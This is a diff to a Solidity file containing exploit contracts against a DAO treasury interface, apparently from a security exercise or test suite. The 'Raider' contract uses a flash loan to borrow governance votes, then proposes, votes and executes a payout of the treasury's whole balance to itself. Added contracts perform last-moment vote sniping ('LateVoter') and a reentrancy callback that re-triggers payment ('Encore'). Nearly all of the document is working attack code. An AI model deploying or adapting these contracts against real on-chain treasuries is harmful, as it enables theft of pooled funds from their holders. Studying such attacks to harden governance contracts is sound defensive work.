@@ -8,9 +8,9 @@ interface IFlashLender {
 }
 
 interface ITreasury {
-    function propose(address payable newReceiver) external;
-    function vote() external;
-    function execute() external;
+    function propose(address payable receiver, uint256 amount) external returns (uint256 id);
+    function vote(uint256 id) external;
+    function execute(uint256 id) external;
 }
 
 // #region attack
@@ -29,12 +29,37 @@ contract Raider {
 
     function onLoan(uint256 amount) external {
         TOKEN.delegate(address(this)); // votes count from now on
-        TREASURY.propose(payable(address(this)));
-        TREASURY.vote();
-        TREASURY.execute();
+        uint256 id = TREASURY.propose(payable(address(this)), address(TREASURY).balance);
+        TREASURY.vote(id);
+        TREASURY.execute(id);
         TOKEN.transfer(address(LENDER), amount);
+    }
+    // #endregion attack
+
+    function join() external {
+        TOKEN.delegate(address(this));
     }
 
     receive() external payable {}
 }
-// #endregion attack
+
+// #region second
+/// Has real votes, and keeps them back until nobody can react any more.
+contract LateVoter {
+    constructor(ERC20Votes token) {
+        token.delegate(address(this));
+    }
+
+    function strike(ITreasury treasury, uint256 id) external {
+        treasury.vote(id);
+        treasury.execute(id);
+    }
+}
+
+/// Asks for the same payment again while it is being paid.
+contract Encore {
+    receive() external payable {
+        try ITreasury(msg.sender).execute(0) {} catch {}
+    }
+}
+// #endregion second
